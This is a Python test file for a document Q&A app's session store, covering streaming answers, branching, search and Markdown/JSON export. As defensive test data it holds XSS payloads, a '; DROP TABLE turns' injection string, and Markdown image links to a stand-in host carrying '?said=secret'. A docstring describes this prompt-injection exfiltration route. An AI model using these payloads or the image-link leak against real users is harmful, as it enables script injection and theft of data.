"""Sessions, turns, search, export, measurements."""

import json
import re
import time
from dataclasses import replace
from typing import Any

import pytest
from markdown_it import MarkdownIt

from sessions import NotFound, Store, StoreError, shown_title


def test_an_answer_streams_and_another_store_tails_it(filled: Any) -> None:
    session = filled.session()
    turn = filled.store.turns.add(session.id, "Who is Emma?")
    assert (turn.status, turn.answer, turn.position, turn.finished_at) == ("answering", "", 0, None)
    with Store(filled.store.home) as other:
        for seen, piece in (("Emma ", "Emma "), ("Emma Woodhouse", "Woodhouse")):
            filled.store.turns.append_answer(turn.id, piece)
            assert other.turns.get(turn.id).answer == seen
            assert other.turns.get(turn.id).status == "answering"
        done = filled.store.turns.finish(
            turn.id, answer="Emma Woodhouse.", sources=[{"page": 1, "weight": 0.5}], measurements={"tokens": 3}
        )
        assert other.turns.all(session.id) == [done]
    assert (done.status, done.answer, done.sources) == ("done", "Emma Woodhouse.", [{"page": 1, "weight": 0.5}])
    assert done.measurements == {"tokens": 3}
    assert done.finished_at is not None
    assert done.error is None
    with pytest.raises(StoreError, match="is done"):
        filled.store.turns.append_answer(turn.id, "more")
    assert filled.store.turns.get(turn.id) == done


def test_a_cancelled_turn_keeps_its_partial_answer(filled: Any) -> None:
    turn = filled.store.turns.add(filled.session().id, "q")
    filled.store.turns.append_answer(turn.id, "half an ans\ud800")
    row = filled.store.turns.finish(turn.id, status="cancelled")
    assert (row.status, row.answer) == ("cancelled", "half an ans\ufffd")
    with pytest.raises(ValueError, match="answering"):
        filled.store.turns.finish(turn.id, status="answering")


def test_a_deleted_session_tells_its_answerer_to_stop(filled: Any) -> None:
    session = filled.session()
    turn = filled.store.turns.add(session.id, "q")
    filled.store.sessions.delete(session.id)
    with pytest.raises(NotFound):
        filled.store.turns.append_answer(turn.id, "x")
    with pytest.raises(NotFound):
        filled.store.turns.finish(turn.id)
    with pytest.raises(NotFound):
        filled.store.turns.add(session.id, "q")


def test_titles_come_from_the_first_question_unless_given(filled: Any) -> None:
    store = filled.store
    session, named = filled.session(), filled.session("My talk")
    assert session.title == "New session"
    for each in (session, named):
        store.turns.add(each.id, "Who\n is " + "very " * 30 + "long?")
        store.turns.add(each.id, "Second")
    assert store.sessions.get(session.id).title.startswith("Who is very")
    assert len(store.sessions.get(session.id).title) <= 60
    assert (store.sessions.get(named.id).title, store.sessions.get(named.id).turns) == ("My talk", 2)
    assert store.sessions.rename(session.id, "Better").title == "Better"
    with pytest.raises(StoreError):
        store.sessions.rename(session.id, "")


def test_sessions_are_listed_by_last_use(filled: Any) -> None:
    store, first = filled.store, filled.session("first")
    second = store.sessions.add(first.context_id, "second")
    elsewhere = store.sessions.add(filled.context(filled.document("f" * 64)).id, "elsewhere")
    filled.answered(first, "q", "a")
    assert [row.title for row in store.sessions.all()] == ["first", "elsewhere", "second"]
    assert [row.id for row in store.sessions.all(first.context_id)] == [first.id, second.id]
    assert store.sessions.all(elsewhere.context_id) == [elsewhere]


def test_a_branch_begins_with_the_first_turns_that_are_done(filled: Any) -> None:
    store, session = filled.store, filled.session("About Emma")
    first = filled.answered(session, "Who is Emma?", "A handsome woman.")
    failed = store.turns.add(session.id, "And?")
    store.turns.finish(failed.id, status="failed", error="out of memory")
    third = store.turns.add(session.id, "Where?")
    store.turns.finish(
        third.id, answer="In Highbury.", sources=[{"page": 1}], measurements={"tokens": 3}, reasoning="Hm."
    )
    store.turns.add(session.id, "When?")
    before = store.sessions.get(session.id), store.turns.all(session.id)
    branch = store.sessions.branch(session.id, 4)
    assert (branch.context_id, branch.title, branch.turns) == (session.context_id, "About Emma (2)", 2)
    for position, (copy, id) in enumerate(zip(store.turns.all(branch.id), (first, third.id), strict=True)):
        assert copy == replace(store.turns.get(id), id=copy.id, session_id=branch.id, position=position)
        assert copy.id not in (first, third.id)
    assert (store.sessions.get(session.id), store.turns.all(session.id)) == before
    assert {hit.session.id for hit in store.search.turns("highbury")} == {session.id, branch.id}
    assert store.turns.all(store.sessions.branch(session.id, 2).id)[0].question == "Who is Emma?"
    assert store.turns.add(branch.id, "When?").position == 2
    store.sessions.delete(session.id)
    assert store.sessions.get(branch.id).turns == 3


def test_a_branch_that_keeps_nothing_takes_its_title_from_its_first_question(filled: Any) -> None:
    session = filled.session()
    filled.answered(session, "Who is Emma?", "A handsome woman.")
    branch = filled.store.sessions.branch(session.id, 0)
    assert (branch.title, branch.turns) == ("New session", 0)
    filled.store.turns.add(branch.id, "Who is Mr Knightley?")
    assert filled.store.sessions.get(branch.id).title == "Who is Mr Knightley?"


def test_sessions_over_a_context_that_would_be_called_the_same_have_numbers(filled: Any) -> None:
    """Branches could not be told apart from what they were made of, nor the same question asked twice."""
    store, session = filled.store, filled.session()
    filled.answered(session, "Who is Emma?", "A handsome woman.")
    one = store.sessions.branch(session.id, 1)
    two = store.sessions.branch(one.id, 1)
    anew = store.sessions.branch(session.id, 0)
    store.turns.add(anew.id, "Who is Emma?")
    titles = [store.sessions.get(each.id).title for each in (session, one, two, anew)]
    assert titles == ["Who is Emma?", "Who is Emma? (2)", "Who is Emma? (3)", "Who is Emma? (4)"]
    elsewhere = filled.context()
    assert store.sessions.branch(session.id, 1, elsewhere.id).title == "Who is Emma?"
    store.sessions.rename(one.id, "Accounts (2024)")
    assert store.sessions.branch(one.id, 1).title == "Accounts (2024) (2)"
    long = store.sessions.rename(two.id, "Very " * 39 + "long!")
    branch = store.sessions.branch(two.id, 1)
    assert (len(long.title), len(branch.title), branch.title[-4:]) == (200, 200, " (2)")
    shown = shown_title(branch.title)
    assert (len(shown) <= 60, shown.endswith("… (2)"), shown_title("Emma (2)")) == (True, True, "Emma (2)")


def test_no_branch_keeps_more_turns_than_there_are(filled: Any) -> None:
    session = filled.session()
    with pytest.raises(StoreError, match=r"has 0 turns: .* not 1"):
        filled.store.sessions.branch(session.id, 1)
    filled.answered(session, "q", "a")
    for turns in (-1, 2):
        with pytest.raises(StoreError, match=f"has 1 turn: .* not {turns}"):
            filled.store.sessions.branch(session.id, turns)
    with pytest.raises(NotFound):
        filled.store.sessions.branch("s-222222", 0)
    assert filled.store.sessions.all() == [filled.store.sessions.get(session.id)]


@pytest.fixture
def grown(filled: Any) -> Any:
    """A conversation over one document that was taken along to two, went on there, and was taken along to seven."""
    documents = [filled.document(sha256=str(n) * 64, title=f"Letter *{n}*") for n in range(7)]
    contexts = [filled.context(*documents[:count]) for count in (1, 2, 7)]
    first = filled.store.sessions.add(contexts[0].id)
    filled.answered(first, "Who is Emma?", "That is not in the text.")
    second = filled.store.sessions.branch(first.id, 1, contexts[1].id)
    filled.answered(second, "And now?", "A handsome woman.")
    third = filled.store.sessions.branch(second.id, 2, contexts[2].id)
    filled.answered(third, "And all?", "A person.")
    return filled.store, (first, second, third)


def test_what_was_asked_before_documents_were_added_says_so_wherever_it_is_taken(grown: Any) -> None:
    """ "That is not in the text." stood under a longer list of documents, as if it had been said of all of them."""
    store, sessions = grown
    titles = [f"Letter {n}" for n in range(7)]
    told = [
        [turn.asked_before(titles[:count]) for turn in store.turns.all(each.id)]
        for each, count in zip(sessions, (1, 2, 7), strict=True)
    ]
    assert told == [
        [""],
        ["Asked before “Letter 1” was added.", ""],
        [
            "Asked before “Letter 1”, “Letter 2” and 4 others were added.",
            "Asked before “Letter 2”, “Letter 3” and 3 others were added.",
            "",
        ],
    ]
    assert "“Letter 1” and “Letter 2” were added." in store.turns.all(sessions[2].id)[0].asked_before(titles[:3])
    text = store.export_session(sessions[1].id)
    assert "That is not in the text.\n\n*(Asked before “Letter \\*1\\*” was added.)*\n\n## 2. And now?" in text
    assert text.count("Asked before") == 1
    exported = json.loads(store.export_session(sessions[2].id, "json"))
    assert [turn["asked_of"] for turn in exported["turns"]] == [1, 2, 7]
    again = store.sessions.branch(sessions[2].id, 3)
    assert [turn.asked_of for turn in store.turns.all(again.id)] == [1, 2, 7]


def test_of_turns_in_an_older_home_it_is_found_out_what_they_were_asked_of(grown: Any) -> None:
    store, sessions = grown
    with store.database.transaction() as db:
        db.execute("ALTER TABLE turns DROP COLUMN asked_of")
        db.execute("DELETE FROM _sqlite_migrations WHERE name = 'm011_documents_of_turns'")
    store.close()
    with Store(store.home) as opened:
        assert [[turn.asked_of for turn in opened.turns.all(each.id)] for each in sessions] == [[1], [1, 2], [1, 2, 7]]


def test_search_finds_words_without_accents_case_or_endings(filled: Any) -> None:
    store, session = filled.store, filled.session()
    cafe = filled.answered(session, "Where is the Café?", "Beside the river <b>Ouse</b>.")
    other = filled.answered(session, "And the inn?", "The Naïve Lion, near the old bridge of stones.")

    def found(query: str) -> list[str]:
        return [hit.turn.id for hit in store.search.turns(query)]

    assert found("cafe") == found("CAFÉ") == found("caf") == found("cafe river") == [cafe]
    assert found("naive lion") == found('"old bridge"') == found("lion bri") == [other]
    assert found("cafe lion") == found('"bridge old"') == found('"old brid"') == found("caf ") == []
    assert set(found("the")) == {cafe, other}
    assert len(store.search.turns("the", limit=1)) == 1
    hit = store.search.turns("ouse")[0]
    assert hit.session == store.sessions.get(session.id)
    assert hit.turn == store.turns.get(cafe)
    assert hit.snippet == "Beside the river <b>Ouse</b>."
    assert [hit.snippet[start:end] for start, end in hit.highlights] == ["Ouse"]


def test_which_sessions_say_something_is_told_however_many_do(filled: Any) -> None:
    store, sessions = filled.store, [filled.session(), filled.session(), filled.session()]
    for session, answer in zip(sessions, ("A lamp.", "A lamp, again.", "A fox."), strict=True):
        filled.answered(session, "What was it?", answer)
    ids = [session.id for session in sessions]
    assert store.search.sessions("lamp", ids) == set(ids[:2])
    assert store.search.sessions("lamp", ids[1:]) == {ids[1]}
    assert store.search.sessions("lamp", []) == store.search.sessions("!!!", ids) == set()


def test_what_is_under_way_and_what_was_used_last_is_told_without_all_the_rest(filled: Any) -> None:
    store, session = filled.store, filled.session()
    for number in range(5):
        filled.answered(session, f"Question {number}?", "Yes.")
    assert [turn.question for turn in store.turns.all(session.id, 3)] == ["Question 3?", "Question 4?"]
    assert store.turns.answering(session.id) == []
    turn = store.turns.add(session.id, "And now?")
    assert store.turns.answering(session.id) == [turn.id]
    assert store.sessions.last_used() == {session.context_id: store.sessions.get(session.id).updated_at}
    other = store.sessions.add(session.context_id)
    filled.answered(other, "Question 4?", "No.")
    assert [row.id for row in store.sessions.all(session.context_id, "Question 4?")] == [other.id, session.id]
    assert [row.id for row in store.sessions.all(asking="Question 3?")] == [session.id]
    assert store.sessions.all(asking="\ud800") == []  # half a sign, as programs cut texts


@pytest.mark.parametrize(
    "query",
    ['"', '""', "a AND", "NOT", "NEAR(", "café*", "-x", "question:", "(a OR", "^a", "a\x00b", "\ud800", "", "  ", "{}",
     '"a" "', "!!!", "* *", "; DROP TABLE turns", "%", "…", "'", '"!!!" zebra', "x" * 5000],
)  # fmt: skip
def test_no_query_is_an_error(filled: Any, query: str) -> None:
    filled.answered(filled.session(), "zebra crossing", "no")
    assert isinstance(filled.store.search.turns(query), list)
    assert len(filled.store.search.turns("zebra")) == 1


def test_a_title_is_one_line(filled: Any) -> None:
    session = filled.session()
    assert filled.store.sessions.rename(session.id, " Two\nlines\tand  blanks ").title == "Two lines and blanks"
    assert filled.store.sessions.add(session.context_id, "A\nB").title == "A B"
    with pytest.raises(StoreError, match="1 to 1,000 turns, not 0"):
        filled.store.search.turns("words", 0)


def test_of_a_long_title_the_beginning_is_kept(filled: Any) -> None:
    """A program could give one of megabytes, which every list then showed."""
    document, session, title = filled.document(title="é" * 10**6), filled.session(), "word " * 10**5
    assert document.title == "é" * 200
    kept = ("word " * 40).rstrip()
    assert filled.store.sessions.add(session.context_id, title).title == kept
    assert filled.store.sessions.rename(session.id, title).title == kept
    assert filled.store.documents.rename(document.id, title).title == kept


def test_operators_are_words(filled: Any) -> None:
    filled.answered(filled.session(), "black", "white")
    assert filled.store.search.turns("black OR nothing") == []
    assert filled.store.search.turns("black NOT white") == []
    assert len(filled.store.search.turns("black - white")) == len(filled.store.search.turns("white, black!")) == 1


def test_the_index_follows_changes_and_survives_a_vacuum(filled: Any) -> None:
    store, session = filled.store, filled.session()
    first = filled.answered(session, "alpha", "one")
    second = filled.answered(session, "beta", "two")
    store.turns.finish(second, answer="three")
    assert store.search.turns("two") == []
    assert [hit.turn.id for hit in store.search.turns("three")] == [second]
    store.sessions.delete(filled.session().id)
    store.database.connection.vacuum()
    assert [hit.turn.id for hit in store.search.turns("alpha")] == [first]
    streaming = store.turns.add(session.id, "gamma")
    assert [hit.turn.id for hit in store.search.turns("gamma")] == [streaming.id]


@pytest.fixture
def talked(filled: Any) -> Any:
    document = filled.document(title="Emma *vol. 1*")
    session = filled.store.sessions.add(filled.context(document).id, "About <Emma>")
    turn = filled.store.turns.add(session.id, "Who is\nEmma?")
    sources = [
        {"document": document.id, "page": 12, "quote": "Emma Woodhouse,\nhandsome <i>", "weight": 0.625},
        {"document": document.id, "place": "ch. 3, par. 4", "page": 9, "quote": None, "weight": 0.1},
    ]
    filled.store.turns.finish(turn.id, answer="A **person**.\n\n<script>x</script>", sources=sources)
    stopped = filled.store.turns.add(session.id, "And?")
    filled.store.turns.append_answer(stopped.id, "She")
    filled.store.turns.finish(stopped.id, status="failed", error="out of memory")
    return filled.store, session, document


def test_export_markdown(talked: Any) -> None:
    store, session, _ = talked
    text = store.export_session(session.id)
    date = time.strftime("%Y-%m-%d %H:%M", time.gmtime(session.created_at))
    assert text == (
        "# About &lt;Emma>\n\n"
        "- *Emma \\*vol. 1\\** (txt, 3 sections)\n\n"
        f"Read by pocket with exact, budget 512. {date} UTC.\n\n"
        "## 1. Who is Emma?\n\n"
        "A **person**.\n\n&lt;script>x&lt;/script>\n\n"
        "1. Emma \\*vol. 1\\*, p. 12 (62%): “Emma Woodhouse, handsome &lt;i>”\n"
        "2. Emma \\*vol. 1\\*, ch. 3, par. 4 (10%)\n\n"
        "## 2. And?\n\n"
        "She\n\n"
        "*(failed: out of memory)*\n"
    )


def test_an_export_counts_pages_slides_or_sections(filled: Any) -> None:
    documents = [filled.document(sha256=str(n) * 64, format=format) for n, format in enumerate(("pdf", "pptx", "xlsx"))]
    session = filled.store.sessions.add(filled.context(*documents).id, "All of them")
    text = filled.store.export_session(session.id)
    assert [line for line in text.split("\n") if line.startswith("- ")] == [
        *("- *Emma* (pdf, 3 pages)", "- *Emma* (pptx, 3 slides)", "- *Emma* (xlsx, 3 sections)"),
    ]


def test_a_pasted_page_is_no_heading(filled: Any) -> None:
    """It became one, on a single line of up to 20,000 characters."""
    session = filled.session()
    page = "What is meant by *this*?\n\n" + "The sea was calm and the fox slept. " * 9
    filled.store.turns.finish(filled.store.turns.add(session.id, page).id, answer="Nothing.", sources=[])
    lines = filled.store.export_session(session.id).split("\n")
    heading = next(line for line in lines if line.startswith("## 1. What is meant by \\*this\\*? The sea"))
    assert heading.endswith(" …")
    assert len(heading) < 140
    quoted = [line.removeprefix("> ").strip() for line in lines if line.startswith(">")]
    assert quoted == [r"What is meant by \*this\*?", "", ("The sea was calm and the fox slept. " * 9).strip()]


def test_pages_that_were_named_stay_with_the_question(filled: Any) -> None:
    session = filled.session()
    turn = filled.store.turns.add(session.id, "Who came?", "2:3, 1:4/1-2")
    filled.store.turns.finish(turn.id, answer="Nobody.", status="cancelled")
    assert filled.store.turns.get(turn.id).pages == "2:3, 1:4/1-2"
    assert "Who came?\n\n*(Pages named: 2:3, 1:4/1-2)*\n\nNobody." in filled.store.export_session(session.id)


def test_passages_under_an_answer_that_found_nothing_are_the_closest_in_an_export(filled: Any) -> None:
    session = filled.session().id
    turn = filled.store.turns.add(session, "Who is Ahab?")
    source = {"document": "d-a", "page": 3, "quote": "Line 3."}
    for found in (True, False):
        filled.store.turns.finish(turn.id, answer="Nobody.", sources=[source], measurements={"found": found})
        text = filled.store.export_session(session)
        assert ("*(Closest passages:)*\n\n1. d-a, p. 3: “Line 3.”" in text) == (not found)


def test_sentences_in_an_export_have_the_numbers_of_their_sources(filled: Any) -> None:
    session = filled.session().id
    turn = filled.store.turns.add(session, "Is it lit?")
    sources = [{"document": "d-a", "page": page, "quote": f"Line {page}."} for page in (3, 5)]
    cited = [{"start": 0, "end": 10, "source": 1}, {"start": 10, "end": 27, "source": 0}]
    said = {"answer": "It is lit. **It was dark.**\n", "sources": sources, "measurements": {"citations": cited}}
    filled.store.turns.finish(turn.id, **said)
    text = filled.store.export_session(session)
    assert "It is lit. [2] **It was dark.** [1]\n" in text
    assert text.index("1. ") < text.index("p. 3") < text.index("2. ", text.index("p. 3")) < text.index("p. 5")


def test_an_export_fetches_no_picture_that_an_answer_names(filled: Any) -> None:
    """Whoever wrote the document could have the model write an address with what it had read in it."""
    session = filled.session()
    filled.answered(session, "Well?", "Yes! ![all of it](https://elsewhere.example/?said=secret) [1]")
    lines = filled.store.export_session(session.id).split("\n")
    assert r"Yes! &#33;[all of it](https://elsewhere.example/?said=secret) [1]" in lines


@pytest.mark.parametrize("backslashes", range(5))
def test_nothing_in_an_export_is_rendered_whatever_stands_before_it(filled: Any, backslashes: int) -> None:
    """Signs were escaped with a backslash, which another one before it escaped in turn."""
    session, document, before = filled.session(), filled.document(), "\\" * backslashes
    evil = f"So {before}<b>, {before}<img src=x onerror=alert(1)> and {before}![p](http://elsewhere.example/p.png)"
    sources = [{"document": document.id, "place": evil, "quote": evil, "weight": 0.5}]
    turn = filled.store.turns.add(session.id, evil)
    filled.store.turns.finish(turn.id, answer=f"{evil} *well*", sources=sources)
    shown = MarkdownIt("commonmark").render(filled.store.export_session(session.id))
    assert "<em>well</em>" in shown
    assert not re.search("<(b>|img)", shown)
    said = "\\" * (backslashes // 2)  # one escapes what follows, and two are one
    assert f"<p>So {said}&lt;b&gt;, {said}&lt;img src" in shown
    assert f" and {said}!<a href=" in shown


CODE = "Say `Vec<String>`:\n\n```c\n#include <stdio.h>\n```"
IMAGE = "<img src=x onerror=alert(1)>"


def exported(filled: Any, *answers: str) -> str:
    session = filled.session()
    for answer in answers:
        filled.answered(session, "Well?", answer)
    return str(filled.store.export_session(session.id))


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        (CODE, CODE.replace("`Vec<", "`Vec&lt;")),
        (f"~~~\n{IMAGE}\n~~~\n\n<b>", f"~~~\n{IMAGE}\n~~~\n\n&lt;b>"),
        (f"- A list:\n\n  ```\n  if a <b\n  ```\n\n{IMAGE}", "  if a &lt;b\n  ```\n\n&lt;img src"),
        ("```\na <b\n", "```\na <b\n```\n"),
    ],
)
def test_code_in_an_export_is_what_the_model_wrote(filled: Any, answer: str, kept: str) -> None:
    """It had `&lt;` where there was "<"."""
    assert kept in exported(filled, answer)


def test_an_answer_with_a_deep_list_is_exported(filled: Any) -> None:
    assert "the rest" in exported(filled, f"{'1. ' * 300}deep\n\n```\ncode\n```\n\nAnd this is the rest.")


@pytest.mark.parametrize(
    "answers",
    [
        (f"```\nan end is missing: {IMAGE}", f"```\n{IMAGE}\n```", f"~~~\n{IMAGE}"),
        (f"~~~\n```\n~~~\n\n{IMAGE}\n\n```\n```",),
        (f"`a\nb` {IMAGE} `c`",),
        (f"| ` | ` {IMAGE} ` |\n|---|---|",),
        (f"| ` | {IMAGE} ` |\n|---|---|",),
        (f"- ```\n{IMAGE}\n```", f"```\n{IMAGE}\n```"),
        (f"````\n```\n{IMAGE}", f"```\n{IMAGE}\n```"),
        ("> " * 150 + IMAGE, f"`{IMAGE}`"),
        (f"```\r{IMAGE}\r```\r{IMAGE}",),
        (f"`` ` {IMAGE} `", f"`![p](https://a.org/p.png)` ![p](https://a.org/p.png) {IMAGE}"),
        (f"\N{OBJECT REPLACEMENT CHARACTER}\n\n```\n{IMAGE}", f"```\n{IMAGE}\n```"),
        ("![x][r]", "[r]: http://elsewhere.example/p.png"),
        (f"[y]: /u\n    {IMAGE}", "[z]: /u\n    ![p](http://elsewhere.example/p.png)"),
        ("!" + "[" * 120 + "x" + "]" * 120 + "(http://elsewhere.example/p.png)",),
        (f"<div>\n```\n</div>\n\n{IMAGE}\n```",),
        (f"$$\n```\n$$\n{IMAGE}\n```",),
    ],
)
@pytest.mark.parametrize("tables", [False, True])
def test_what_only_looks_like_code_in_an_export_is_not_rendered(
    filled: Any, answers: tuple[str, ...], tables: bool
) -> None:
    markdown, text = MarkdownIt("commonmark", {"maxNesting": 1000}), exported(filled, *answers)
    shown = (markdown.enable("table") if tables else markdown).render(text)
    assert "<img" not in shown
    assert shown.count("<h2>") == len(answers)
    # Whatever else a program takes for code, nothing outside of fences is left as it was.
    outside = re.sub(r"^(```+|~~~+)[^\n]*\n.*?^\1[`~]*$", "", text, flags=re.MULTILINE | re.DOTALL)
    assert not re.search(r"<img|!\[", outside)


def test_export_json_is_complete(talked: Any) -> None:
    store, session, document = talked
    data = json.loads(store.export_session(session.id, "json"))
    assert data["session"]["title"] == "About <Emma>"
    assert data["context"]["method"] == "exact"
    assert [each["id"] for each in data["documents"]] == [document.id]
    assert [each["answer"] for each in data["turns"]] == ["A **person**.\n\n<script>x</script>", "She"]
    assert data["turns"][0]["sources"][0]["quote"] == "Emma Woodhouse,\nhandsome <i>"
    with pytest.raises(StoreError, match="pdf"):
        store.export_session(session.id, "pdf")


def test_measurements_are_the_newest_in_order(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    for number in range(5):
        monkeypatch.setattr(time, "time", lambda at=1e9 - number: at)  # a clock that somebody sets back
        store.measurements.add("speed", "c-222222", {"n": number, "bad": float("inf")})
    others = ("speed", "c-333333", 9), ("memory", "", 7)
    for kind, id, number in others:
        store.measurements.add(kind, id, {"n": number})
    rows = store.measurements.newest("speed", "c-222222", limit=3)
    assert [row.values for row in rows] == [{"n": number, "bad": None} for number in (2, 3, 4)]
    for most, left in ((9, [0, 1, 2, 3, 4]), (3, [0, 2, 4]), (2, [0, 4])):
        store.measurements.thin("speed", "c-222222", most)
        assert [row.values["n"] for row in store.measurements.newest("speed", "c-222222")] == left
        assert [[row.values["n"] for row in store.measurements.newest(kind, id)] for kind, id, _ in others] == [
            [9],
            [7],
        ]
